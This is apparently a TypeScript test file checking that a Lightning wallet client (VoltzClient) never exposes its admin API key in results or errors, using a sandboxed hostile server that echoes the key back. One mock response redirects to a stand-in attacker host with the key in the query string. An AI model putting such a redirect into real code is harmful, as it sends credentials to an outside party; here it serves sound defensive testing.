import { mintInvoice } from '../sandbox/invoice-minter';
import { SandboxHttpServer, sendJson, sendText } from '../sandbox/sandbox-http-server';
import { SandboxLnbitsServer } from '../sandbox/sandbox-lnbits-server';
import { VoltzClient } from './voltz-client';

const KEY = '5f3c9a7e1b2d4c6e8f0a1b2c3d4e5f60';
const HASH = 'ab'.repeat(32);

function invoice() {
  const minted = mintInvoice({ network: 'bitcoin', amountMsat: 1000 });
  return { bolt11: minted.bolt11, paymentHash: minted.paymentHash, amountMsat: 1000, expiresAt: new Date().toISOString() };
}

/** Everything a caller could log: the value, its JSON, and for errors their message, stack and own properties. */
function everythingVisible(value: unknown): string {
  if (value instanceof Error)
    return [
      value.message,
      value.stack ?? '',
      JSON.stringify(value),
      JSON.stringify(Object.getOwnPropertyNames(value).map((k) => String((value as unknown as Record<string, unknown>)[k]))),
    ].join('\n');
  return JSON.stringify(value);
}

async function settle<T>(promise: Promise<T>): Promise<unknown> {
  try {
    return await promise;
  } catch (error) {
    return error;
  }
}

describe('VoltzClient never exposes the admin key', () => {
  /** A hostile or buggy server that quotes the request's key back in every answer it gives. */
  let echo: SandboxHttpServer;
  let answer: 'lnbits520' | 'json500' | 'json404' | 'json401' | 'text200' | 'json400' | 'redirect' = 'lnbits520';

  beforeAll(async () => {
    echo = await SandboxHttpServer.start((req, res) => {
      const key = String(req.headers['x-api-key']);
      switch (answer) {
        case 'lnbits520':
          return sendJson(res, 520, { detail: `Payment failed: bad key ${key}`, status: 'failed' });
        case 'json500':
          return sendJson(res, 500, { detail: `crash with ${key}` });
        case 'json404':
          return sendJson(res, 404, { detail: `Wallet not found. (${key})` });
        case 'json401':
          return sendJson(res, 401, { detail: `Invalid key ${key}` });
        case 'json400':
          return sendJson(res, 400, { detail: `Daily withdrawal limit for ${key}` });
        case 'text200':
          return sendText(res, 200, `key=${key}`);
        case 'redirect':
          res.writeHead(302, { Location: `https://evil.example/?k=${key}` });
          return void res.end();
      }
    });
  });
  afterAll(() => echo.close());

  it.each(['lnbits520', 'json500', 'json404', 'json401', 'json400', 'text200', 'redirect'] as const)(
    'in outcomes and errors when the server echoes it (%s)',
    async (kind) => {
      answer = kind;
      const client = new VoltzClient({ baseUrl: echo.url, adminKey: KEY, timeoutMs: 300 });
      const results = [
        await settle(client.pay(invoice())),
        await settle(client.checkPayment(HASH)),
        await settle(client.getWallet()),
        await settle(client.listPayments({ limit: 10, offset: 0 })),
      ];
      for (const result of results) expect(everythingVisible(result)).not.toContain(KEY);
      // Where the answer is quoted, the redaction marker shows the echo really happened (a non-JSON 200 is never quoted).
      if (kind !== 'text200') expect(everythingVisible(results[0])).toContain('[redacted]');
    },
  );

  it('in errors from an unknown key, an unreachable wallet or a timeout', async () => {
    const lnbits = await SandboxLnbitsServer.start({ network: 'bitcoin' });
    lnbits.injectFault({ endpoint: 'pay', fault: { kind: 'hang' } });
    const wrongKey = new VoltzClient({ baseUrl: lnbits.url, adminKey: KEY, timeoutMs: 300 });
    const timingOut = new VoltzClient({ baseUrl: lnbits.url, adminKey: lnbits.adminKey, timeoutMs: 300 });
    const results: unknown[] = [
      await settle(wrongKey.pay(invoice())),
      await settle(wrongKey.getWallet()),
      await settle(wrongKey.listPayments({ limit: 1, offset: 0 })),
    ];
    const timeout = await settle(timingOut.pay(invoice()));
    await lnbits.close();
    const unreachable = new VoltzClient({ baseUrl: lnbits.url, adminKey: KEY, timeoutMs: 300 });
    results.push(await settle(unreachable.pay(invoice())), await settle(unreachable.getWallet()));
    for (const result of results) expect(everythingVisible(result)).not.toContain(KEY);
    expect(everythingVisible(timeout)).not.toContain(lnbits.adminKey);
    expect(results[1]).toMatchObject({ category: 'configuration' });
    expect(results[1]).not.toHaveProperty('cause');
  });
});
